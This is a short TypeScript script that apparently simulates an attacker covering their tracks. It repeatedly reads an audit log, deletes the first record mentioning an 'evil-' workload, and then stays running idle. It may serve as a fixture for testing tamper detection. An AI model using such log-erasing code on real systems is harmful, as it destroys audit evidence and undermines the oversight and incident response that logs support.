/** Takes the first trace of an attacker out of an audit log, once, as somebody who covers their tracks would. */
import { readFile, writeFile } from 'node:fs/promises';

const file = process.env.AUDIT_LOG ?? '';

while (!(await erased())) await new Promise((resolve) => setTimeout(resolve, 100));
console.log('one record less');
// Its component goes on living, so that nothing shows but the log.
setInterval(() => {}, 60_000);

async function erased(): Promise<boolean> {
  const lines = (await readFile(file, 'utf8').catch(() => '')).split('\n');
  const trace = lines.findIndex((line) => line.includes('/workloads/evil-'));
  if (trace === -1) return false;
  await writeFile(file, lines.toSpliced(trace, 1).join('\n'));
  return true;
}
